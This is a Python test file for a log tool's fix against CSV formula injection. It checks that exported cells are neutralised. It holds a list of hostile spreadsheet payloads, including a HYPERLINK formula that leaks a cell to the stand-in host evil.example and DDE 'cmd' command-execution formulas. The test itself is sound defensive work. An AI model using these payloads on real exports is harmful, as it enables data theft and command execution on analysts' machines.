"""Finding 6: CSV formula injection.

``export --format csv`` and the CLI's ``--format csv`` wrote caller-controlled fields (userAgent,
errorMessage) as they were, so ``=HYPERLINK(...)`` or ``=cmd|...`` became a live formula in the
analyst's spreadsheet. Every CSV writer now goes through one cell encoder
(trailmask.export.csvcell), and the web UI's download applies the same rule.
"""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from tests.conftest import ROOT, awsdocs_events, run_subprocess, write_jsonl

# What an attacker puts in fields they control with one API call.
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",  # full-width equals sign
]
NUMBER = re.compile(r"^-?\d+(?:\.\d+)?$")  # a number cell is data, not a formula
LIVE = re.compile("^[ \t\r\n]*[=+\\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]")


def _events() -> list[dict[str, object]]:
    base = awsdocs_events()[0]
    events = []
    for index, payload in enumerate(PAYLOADS):
        event = {**base, "eventID": f"00000000-0000-0000-0000-{index:012d}", "userAgent": payload}
        event["errorMessage"] = payload
        events.append(event)
    return events


@pytest.fixture
def store(tmp_path: Path) -> Path:
    db = tmp_path / "s.duckdb"
    source = write_jsonl(tmp_path / "in" / "attack.jsonl", _events())
    result = run_subprocess(["--db", str(db), "ingest", str(source)])
    assert result.returncode == 0, result.stderr
    return db


def _csv_stdout(args: list[str]) -> str:
    """The real console script's stdout, bytes decoded as they are (no newline translation)."""
    result = subprocess.run(
        [sys.executable, "-m", "trailmask", *args], capture_output=True, env=dict(os.environ), timeout=120, check=False
    )
    assert result.returncode == 0, result.stderr.decode()
    return result.stdout.decode("utf-8")


def _assert_no_live_cell(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(PAYLOADS) + 1, "a CR or LF inside a cell split a row"
    assert {len(row) for row in rows} == {len(rows[0])}
    for row in rows:
        for cell in row:
            assert NUMBER.match(cell) or not LIVE.match(cell), f"live formula cell {cell!r}"
    return rows


def _neutralised(rows: list[list[str]], column: str) -> list[str]:
    index = rows[0].index(column)
    return sorted(row[index] for row in rows[1:])


def test_export_csv_neutralises_formula_cells(store: Path, tmp_path: Path) -> None:
    out = tmp_path / "export"
    result = run_subprocess(["--db", str(store), "export", "--format", "csv", str(out)])
    assert result.returncode == 0, result.stderr
    rows = _assert_no_live_cell((out / "events.csv").read_bytes().decode("utf-8"))
    assert _neutralised(rows, "userAgent") == sorted("'" + p for p in PAYLOADS)
    assert _neutralised(rows, "errorMessage") == sorted("'" + p for p in PAYLOADS)


def test_cli_csv_output_neutralises_formula_cells(store: Path) -> None:
    query = 'SELECT userAgent, errorMessage, -5 AS n, userAgent AS "=x" FROM events'
    rows = _assert_no_live_cell(_csv_stdout(["--db", str(store), "sql", query, "--as", "admin", "--format", "csv"]))
    assert rows[0] == ["userAgent", "errorMessage", "n", "'=x"]
    assert _neutralised(rows, "userAgent") == sorted("'" + p for p in PAYLOADS)
    assert {row[2] for row in rows[1:]} == {"-5"}  # a number stays a number


def test_cell_encoder_rule() -> None:
    from trailmask.export.csvcell import csv_cell

    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell("plain text") == "plain text"
    assert csv_cell("a=b") == "a=b"
    assert csv_cell(-3) == "-3" and csv_cell(-1.5) == "-1.5" and csv_cell(True) == "true"
    assert csv_cell(None) == ""
    assert csv_cell({"k": "=1"}) == '{"k":"=1"}'  # JSON text starts with { and is inert


def test_web_download_applies_the_same_rule() -> None:
    """download.js's FORMULA_START is the Python rule (same pattern, same verdicts)."""
    from trailmask.export.csvcell import FORMULA_START

    source = (ROOT / "src" / "trailmask" / "web" / "static" / "download.js").read_text(encoding="utf-8")
    match = re.search(r"const FORMULA_START = /(.+)/;", source)
    assert match, "download.js no longer defines FORMULA_START"
    js_rule = re.compile(match.group(1))
    samples = [*PAYLOADS, "ok", " ok", "a-b", "'=1", "\uff0b1", "\uff20x", "x\t=1", "", "12"]
    assert [bool(js_rule.match(s)) for s in samples] == [bool(FORMULA_START.match(s)) for s in samples]
